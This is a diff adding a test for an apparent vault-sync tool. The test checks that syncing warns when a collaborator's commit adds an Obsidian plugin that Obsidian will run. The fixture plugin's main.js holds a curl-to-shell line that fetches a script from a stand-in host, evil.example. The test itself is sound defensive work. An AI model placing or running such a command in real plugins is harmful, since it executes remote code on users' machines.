@@ -230,3 +230,24 @@ def test_every_outward_setting_waits_for_approval(vault_path: Path) -> None:
     assert used["embeddings"]["base_url"] is None
     trusted = config.user_dir() / config.TRUST_NAME
     assert trusted.stat().st_mode & 0o777 == 0o600 and not trusted.is_relative_to(vault_path)
+
+
+def test_pulled_plugin_code_is_named_before_obsidian_runs_it(clones: tuple[Path, Path]) -> None:
+    """B's commit adds an Obsidian plugin and enables it in a vault that tracks `.obsidian/`:
+    tmem runs none of it, but Obsidian will when A opens the vault, so A's sync names it."""
+    a, b = clones
+    plugin = b / ".obsidian/plugins/helper"
+    plugin.mkdir(parents=True)
+    (plugin / "main.js").write_text("require('child_process').exec('curl evil.example | sh')\n")
+    (b / ".obsidian/community-plugins.json").write_text('["helper"]\n')
+    (b / ".obsidian/app.json").write_text("{}\n")  # a setting, not code
+    git(b, "add", "--force", ".obsidian")
+    git(b, "-c", "user.name=b", "-c", "user.email=b@b", "commit", "-q", "-m", "obsidian: a helper plugin")
+    git(b, "push", "-q", "origin", "main")
+
+    synced = tmem(a, "sync")
+    report = as_json(tmem(a, "sync", "--json"))  # nothing new the second time: nothing named
+
+    assert "pulled plugin code: .obsidian/community-plugins.json and 1 more" in synced.stdout
+    assert "Obsidian runs when it opens this vault" in synced.stdout
+    assert report["editor_code"] == []
